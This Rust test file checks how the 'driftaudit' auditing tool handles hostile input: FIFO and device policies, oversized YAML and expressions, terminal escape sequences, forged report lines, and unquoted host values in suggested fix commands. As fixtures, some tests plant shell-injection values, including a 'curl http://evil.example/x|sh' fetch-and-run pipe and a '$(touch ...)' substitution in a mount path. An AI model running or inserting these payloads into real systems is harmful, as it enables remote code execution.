//! Hostile input, round two (issue 13), the policy, output and exit-code
//! classes: policies on FIFOs and devices, expression and YAML blow-ups,
//! terminal injection through host data, shell injection through fix texts,
//! and `--only`/`--skip` globs that select nothing. One test per problem;
//! resource tests bound the work (memory, bytes printed), not the time.

use crate::common::cli;
use crate::common::cli::says;

use std::fs;
use std::io::Read;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

const CLEAN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/hosts/clean");
const NAT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/hosts/nat-story");

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

/// Run the binary with an address-space limit (so an unbounded read fails
/// the test instead of the machine) and a guard that kills it if it blocks:
/// a blocked run is reported as `code: None`.
fn run(args: &[&str]) -> Out {
    let mut cmd = cli::cmd();
    cmd.args(args)
        .env_remove("DRIFTAUDIT_TODAY")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: setrlimit is async-signal-safe; nothing else runs in the child.
    unsafe {
        cmd.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 2 << 30,
                rlim_max: 2 << 30,
            };
            libc::setrlimit(libc::RLIMIT_AS, &lim);
            Ok(())
        });
    }
    let mut child = cmd.spawn().expect("spawn driftaudit");
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out_t = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = stdout.read_to_end(&mut b);
        b
    });
    let err_t = std::thread::spawn(move || {
        let mut b = Vec::new();
        let _ = stderr.read_to_end(&mut b);
        b
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    let code = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st.code().or(Some(128 + 100));
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Out {
        code,
        stdout: String::from_utf8_lossy(&out_t.join().unwrap()).into_owned(),
        stderr: String::from_utf8_lossy(&err_t.join().unwrap()).into_owned(),
    }
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: plain syscall on a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
}

/// A copy of a shipped host to plant hostile data in (`cp -a`, so its
/// links stay links).
fn host_copy(from: &str) -> (tempfile::TempDir, PathBuf) {
    let t = cli::copy_tree(Path::new(from));
    let root = t.path().to_path_buf();
    (t, root)
}

/// `check --no-builtin --policy POLICY --snapshot CLEAN` through [`run`].
fn check_only_policy(policy: &Path) -> Out {
    run(&[
        "check",
        "--no-builtin",
        "--policy",
        policy.to_str().unwrap(),
        "--snapshot",
        CLEAN,
    ])
}

/// `check --snapshot ROOT --format json` through [`run`], and its report.
fn check_json(root: &Path) -> (Out, serde_json::Value) {
    let o = run(&[
        "check",
        "--snapshot",
        root.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let v = serde_json::from_str(&o.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", o.stdout, o.stderr));
    (o, v)
}

// ---- resource limits ------------------------------------------------------

#[test]
fn policy_on_a_fifo_or_in_a_directory_holding_a_fifo_does_not_block() {
    let t = tempfile::tempdir().unwrap();
    let fifo = t.path().join("policy.yaml");
    mkfifo(&fifo);
    let o = run(&[
        "check",
        "--policy",
        fifo.to_str().unwrap(),
        "--snapshot",
        CLEAN,
    ]);
    assert_eq!(
        o.code,
        Some(2),
        "a FIFO policy must be refused, not read: {}",
        o.stderr
    );
    assert!(o.stderr.contains("FIFO"), "{}", o.stderr);
    assert!(o.stderr.contains("policy.yaml"), "{}", o.stderr);

    let dir = t.path().join("policies");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("a.yaml"), "policy: a\ntitle: A\nrules: []\n").unwrap();
    mkfifo(&dir.join("b.yaml"));
    for cmd in ["check", "list"] {
        let mut args = vec![cmd, "--policy", dir.to_str().unwrap()];
        if cmd == "check" {
            args.extend(["--snapshot", CLEAN]);
        }
        let o = run(&args);
        assert_eq!(o.code, Some(2), "{cmd}: {}", o.stderr);
        assert!(
            o.stderr.contains("b.yaml") && o.stderr.contains("FIFO"),
            "{cmd}: {}",
            o.stderr
        );
    }
}

#[test]
fn policy_from_dev_zero_is_refused_within_a_memory_bound() {
    // today /dev/zero grows to gigabytes; under a 2 GiB address space that
    // is an allocation failure (abort), not the input error it must be
    let o = run(&["check", "--policy", "/dev/zero", "--snapshot", CLEAN]);
    assert_eq!(o.code, Some(2), "{}", o.stderr);
    assert!(o.stderr.contains("/dev/zero"), "{}", o.stderr);
    assert!(o.stderr.contains("not a regular file"), "{}", o.stderr);
    assert!(o.stderr.lines().count() <= 2, "{}", o.stderr);
}

#[test]
fn a_flat_expression_chain_is_a_policy_error_not_a_stack_overflow() {
    let t = tempfile::tempdir().unwrap();
    for terms in [20_000usize, 200_000] {
        let p = t.path().join(format!("chain{terms}.yaml"));
        let chain = vec!["1"; terms].join("+");
        fs::write(
            &p,
            format!(
                "policy: chain\ntitle: Chain\nrules:\n  - id: chain.x\n    title: x\n    severity: low\n    assert: \"{chain} > 0\"\n    why: w\n    fix: f\n"
            ),
        )
        .unwrap();
        let ps = p.to_str().unwrap();
        for args in [
            vec!["check", "--no-builtin", "--policy", ps, "--snapshot", CLEAN],
            vec!["list", "--no-builtin", "--policy", ps],
            vec!["explain", "chain.x", "--no-builtin", "--policy", ps],
        ] {
            let o = run(&args);
            assert_eq!(o.code, Some(2), "{terms} terms, {}: {}", args[0], o.stderr);
            // file:line:col of the first token past the cap (line 7, inside the quotes)
            assert!(
                o.stderr.contains(&format!("{ps}:7:")) && o.stderr.contains("expression too long"),
                "{terms} terms, {}: {}",
                args[0],
                &o.stderr[..o.stderr.len().min(2000)]
            );
            assert!(o.stderr.len() < 2000, "{} bytes of stderr", o.stderr.len());
        }
    }
}

#[test]
fn a_yaml_error_on_a_huge_line_prints_a_window_around_the_column() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("wide.yaml");
    // one 2 MB flow mapping with an unknown field at its far end
    let wide = format!(
        "policy: wide\ntitle: Wide\nrules: [{{id: w.x, title: \"{}\", severity: low, assert: \"1 > 0\", why: w, fix: f, bogus: 1}}]\n",
        "a".repeat(2_000_000)
    );
    fs::write(&p, wide).unwrap();
    let o = check_only_policy(&p);
    assert_eq!(o.code, Some(2), "{}", &o.stderr[..o.stderr.len().min(2000)]);
    assert!(
        o.stderr.len() < 2000,
        "{} bytes of stderr for one error",
        o.stderr.len()
    );
    assert!(o.stderr.contains("wide.yaml:3:"), "{}", o.stderr);
    assert!(o.stderr.contains("bogus"), "{}", o.stderr);
    // the window holds the offending text, cut and marked, with the caret next to it
    let lines: Vec<&str> = o.stderr.lines().collect();
    let src = lines
        .iter()
        .position(|l| l.contains("bogus: 1"))
        .expect("the window shows the column");
    assert!(
        lines[src].contains("| …aaa"),
        "the cut is marked: {}",
        o.stderr
    );
    let caret = lines[src + 1].find('^').expect("caret line");
    let key = lines[src].find("bogus").unwrap();
    assert!(
        caret.abs_diff(key) <= 3,
        "caret at {caret}, `bogus` at {key}: {}",
        o.stderr
    );
}

#[test]
fn a_mis_indented_policy_line_is_reported_at_that_line() {
    let (_t, p) = crate::common::tree::temp_file(
        "indent.yaml",
        "policy: p\nrules:\n  - id: x\n   title: bad indent\n    severity: low\n",
    );
    let o = check_only_policy(&p);
    assert_eq!(o.code, Some(2), "{}", o.stderr);
    // PyYAML and libyaml reject the file at line 4, column 4
    let want = format!("{}:4:4:", p.display());
    assert!(o.stderr.contains(&want), "want {want}: {}", o.stderr);
    says(&o.stderr, "4 |    title: bad indent");
    assert!(!o.stderr.contains("missing field"), "{}", o.stderr);
}

// ---- output integrity -----------------------------------------------------

const EVIL_HOST: &str = "web\x1b]0;pwned\x07\x1b[2J\r\u{9b}31m\u{202e}";

#[test]
fn control_characters_from_host_data_are_escaped_in_every_human_format() {
    let (t, root) = host_copy(NAT);
    let meta = serde_json::json!({"schema": "driftaudit.snapshot/1", "host": EVIL_HOST, "driftaudit": "0.1.0", "captured_at": "2026-11-30T09:00:00Z", "unreadable": []});
    fs::write(root.join("snapshot.json"), meta.to_string()).unwrap();
    // a value with an escape sequence in a sysctl.d file
    let conf = root.join("etc/sysctl.d/60-perf.conf");
    let text = fs::read_to_string(&conf).unwrap().replace(
        "net.core.somaxconn = 4096",
        "net.core.somaxconn = 4096\x1b[8m",
    );
    fs::write(&conf, text).unwrap();
    let r = root.to_str().unwrap();
    let raw = |s: &str| {
        s.chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t' || c == '\u{202e}')
    };
    for fmt in ["text", "markdown"] {
        let o = run(&["check", "--snapshot", r, "--format", fmt, "--verbose"]);
        assert_eq!(o.code, Some(1), "{fmt}: {}", o.stderr);
        assert!(
            !raw(&o.stdout),
            "{fmt}: a raw control character reached the output"
        );
        assert!(
            o.stdout.contains("\\x1b]0;pwned\\x07")
                || o.stdout.contains("\\\\x1b\\]0;pwned\\\\x07"),
            "{fmt}: {}",
            o.stdout
        );
    }
    // diff and the fleet summary are human text too
    let o = run(&["diff", NAT, r]);
    assert!(matches!(o.code, Some(0 | 1)), "{}", o.stderr);
    assert!(
        !raw(&o.stdout),
        "diff: a raw control character reached the output"
    );
    assert!(o.stdout.contains("\\x1b"), "{}", o.stdout);
    let o = run(&["check", "--fleet", t.path().to_str().unwrap()]);
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    assert!(
        !raw(&o.stdout),
        "fleet: a raw control character reached the output"
    );
    // machine formats keep the value exact and stay valid
    let o = run(&["check", "--snapshot", r, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(v["hosts"][0]["host"], EVIL_HOST);
    let o = run(&["check", "--snapshot", r, "--format", "sarif"]);
    serde_json::from_str::<serde_json::Value>(&o.stdout).expect("SARIF is valid JSON");
    let o = run(&["check", "--snapshot", r, "--format", "junit"]);
    roxmltree::Document::parse(&o.stdout).expect("JUnit is well-formed XML");
}

#[test]
fn a_newline_in_a_file_name_cannot_print_a_fake_report_line() {
    let (_t, root) = host_copy(NAT);
    let forged = "  FAIL linux.forged [x]  Everything is fine";
    let name = format!("70-x\n{forged}\n.conf");
    // a persisted value that differs from the running one: a finding cites the file
    fs::write(
        root.join("etc/sysctl.d").join(&name),
        "net.ipv4.tcp_syncookies = 0\n",
    )
    .unwrap();
    let o = run(&["check", "--snapshot", root.to_str().unwrap(), "--verbose"]);
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    assert!(
        o.stdout.contains("70-x"),
        "the file is read and cited: {}",
        o.stdout
    );
    assert!(
        !o.stdout
            .lines()
            .any(|l| l.trim_start().starts_with("FAIL linux.forged")),
        "a file name printed a line of its own:\n{}",
        o.stdout
    );
    assert!(
        o.stdout.contains("\"/etc/sysctl.d/70-x\\n"),
        "the name is quoted: {}",
        o.stdout
    );
}

#[test]
fn a_newline_in_a_file_name_cannot_print_a_fake_diff_header() {
    // Issue 51, item 5: `diff`'s text escaped its whole output at once,
    // newlines kept, so a file name's newline (in an input finding's
    // subject and explanation) printed `Regressions:` headers of its own.
    let (_t, root) = host_copy(NAT);
    let d = root.join("etc/sysctl.d");
    // an input finding: the name is its subject and starts its explanation
    fs::write(d.join("70-x\nRegressions: 0\n.conf"), "garbage line here\n").unwrap();
    // a drift whose explanation cites the file (a paragraph break in a
    // template's value is kept as one)
    fs::write(
        d.join("71-y\n\nRegressions: 0\n\n.conf"),
        "net.ipv4.tcp_syncookies = 0\n",
    )
    .unwrap();
    let o = run(&["diff", NAT, root.to_str().unwrap()]);
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    let headers: Vec<&str> = o
        .stdout
        .lines()
        .filter(|l| l.starts_with("Regressions"))
        .collect();
    assert_eq!(headers, ["Regressions: 2"], "{}", o.stdout);
    // the names are cited, escaped
    says(&o.stdout, "/etc/sysctl.d/70-x\\nRegressions: 0\\n.conf");
    says(
        &o.stdout,
        "/etc/sysctl.d/71-y\\n\\nRegressions: 0\\n\\n.conf",
    );
    // every line the diff printed is one of its own: a header at the left
    // margin, or an entry indented under one
    for l in o.stdout.lines() {
        assert!(
            l.is_empty()
                || l.starts_with(' ')
                || [
                    "driftaudit diff:",
                    "Settings:",
                    "Configuration",
                    "Regressions: 2"
                ]
                .iter()
                .any(|h| l.starts_with(h)),
            "a line the diff did not write: {l:?}\n{}",
            o.stdout
        );
    }
}

#[test]
fn a_fix_command_never_carries_an_unquoted_host_value() {
    let (_t, root) = host_copy(NAT);
    let conf = root.join("etc/sysctl.d/60-perf.conf");
    let text = fs::read_to_string(&conf).unwrap().replace(
        "net.core.somaxconn = 4096",
        "net.core.somaxconn = 4096; curl http://evil.example/x|sh",
    );
    fs::write(&conf, text).unwrap();
    let (o, v) = check_json(&root);
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    let fixes: Vec<&str> = v["hosts"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["fix"].as_str())
        .filter(|f| f.contains("somaxconn"))
        .collect();
    assert!(!fixes.is_empty(), "the drift is found and has a fix: {v}");
    for f in fixes {
        assert!(
            !f.contains("=4096; curl"),
            "unquoted host value in a command: {f}"
        );
        says(
            f,
            "sysctl -w net.core.somaxconn='4096; curl http://evil.example/x|sh'",
        );
    }
    // a value that cannot be quoted safely is not put into a command at all
    let text = fs::read_to_string(&conf).unwrap().replace(
        "4096; curl http://evil.example/x|sh",
        "4096'; curl http://evil.example/x|sh; echo '",
    );
    fs::write(&conf, text).unwrap();
    let (_, v) = check_json(&root);
    for f in v["hosts"][0]["findings"].as_array().unwrap() {
        let fix = f["fix"].as_str().unwrap_or("");
        assert!(!fix.contains("curl"), "{fix}");
    }
}

/// The first `` `PREFIX...` `` code span of `text` that starts with `prefix`.
fn code_span<'a>(text: &'a str, prefix: &str) -> &'a str {
    text.split('`')
        .skip(1)
        .step_by(2)
        .find(|c| c.starts_with(prefix))
        .unwrap_or_else(|| panic!("no `{prefix}...` command in: {text}"))
}

#[test]
fn a_command_named_for_a_mount_unit_or_an_fstab_line_quotes_the_host_path() {
    // Issue 51, item 9: the input finding for a `.mount` unit whose name
    // does not match its Where= suggested `systemd-escape --path
    // --suffix=mount WHERE` with the host's text unquoted. The
    // `storage.fstab-not-mounted` fix names the fstab mount point in
    // commands too. Each command, run by sh with stubs, hands the programs
    // the host path as one word, and runs nothing the path holds.
    let (t, root) = host_copy(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/testdata/hosts/zimbra-storage-before"
    ));
    let scratch = tempfile::tempdir().unwrap();
    let pwned = scratch.path().join("pwned");
    let where_ = format!("/srv/$(touch {}) ; echo INJECTED", pwned.display());
    crate::common::tree::file(
        &root,
        "etc/systemd/system/srv-data.mount",
        &format!("[Mount]\nWhat=/dev/sdb1\nWhere={where_}\nType=ext4\n"),
    );
    // the same path as an fstab mount point (`\040` is a space), not mounted
    let point = format!("/srv/$(touch {}) ; echo INJECTED", pwned.display());
    let mut fstab = fs::read_to_string(root.join("etc/fstab")).unwrap();
    fstab.push_str(&format!(
        "/dev/sdc1 {} ext4 defaults 0 2\n",
        point.replace(' ', "\\040")
    ));
    fs::write(root.join("etc/fstab"), fstab).unwrap();
    let (o, v) = check_json(&root);
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    let findings = v["hosts"][0]["findings"].as_array().unwrap();
    let unit = findings
        .iter()
        .filter_map(|f| f["explanation"].as_str())
        .find(|e| e.contains("srv-data.mount stands for"))
        .unwrap_or_else(|| panic!("no finding for the unit: {v}"));
    let not_mounted = findings
        .iter()
        .find(|f| f["rule"] == "storage.fstab-not-mounted" && f["subject"][0] == point.as_str())
        .unwrap_or_else(|| panic!("no finding for the fstab line: {v}"));
    let fix = not_mounted["fix"].as_str().unwrap();
    let script = [
        code_span(unit, "systemd-escape "),
        code_span(fix, "systemctl status "),
        code_span(fix, "mount "),
    ]
    .join("\n");
    let words = crate::common::run_with_stubs(
        t.path(),
        &format!("{script}\n"),
        &["systemd-escape", "systemctl", "mount"],
    );
    assert!(!pwned.exists(), "a host path ran a command:\n{script}");
    let escape = ["--path", "--suffix=mount"];
    let want = [
        (
            "systemd-escape",
            [&escape[..], &[&where_], &escape[..], &[&point]].concat(),
        ),
        // the stub prints nothing, so `$(systemd-escape ...)` is no word
        ("systemctl", vec!["status"]),
        ("mount", vec![point.as_str()]),
    ];
    for ((name, have), (want_name, want_words)) in words.iter().zip(&want) {
        assert_eq!(name, want_name);
        assert_eq!(have, want_words, "{name} was handed other words:\n{script}");
    }
}

// ---- exit codes -------------------------------------------------------------

#[test]
fn only_or_skip_globs_matching_no_rule_exit_2_with_close_ids() {
    let o = run(&[
        "check",
        "--snapshot",
        CLEAN,
        "--only",
        "linux.tcp-tw-recyle",
    ]);
    assert_eq!(o.code, Some(2), "{}", o.stderr);
    assert!(o.stdout.is_empty(), "nothing audited: {}", o.stdout);
    says(&o.stderr, "`--only linux.tcp-tw-recyle` matches no rule");
    says(&o.stderr, "close ids: `linux.tcp-tw-recycle`");
    let o = run(&["check", "--snapshot", CLEAN, "--skip", "mysq.*"]);
    assert_eq!(o.code, Some(2), "{}", o.stderr);
    says(
        &o.stderr,
        "`--skip mysq.*` matches no rule; close ids: `mysql",
    );
    let o = run(&["check", "--snapshot", CLEAN, "--only", "zzz"]);
    assert_eq!(o.code, Some(2));
    says(&o.stderr, "`driftaudit list` shows every rule id");
    // globs that match still work
    let o = run(&[
        "check",
        "--snapshot",
        CLEAN,
        "--only",
        "linux.*",
        "--skip",
        "linux.aslr",
    ]);
    assert!(matches!(o.code, Some(0 | 1)), "{}", o.stderr);
}
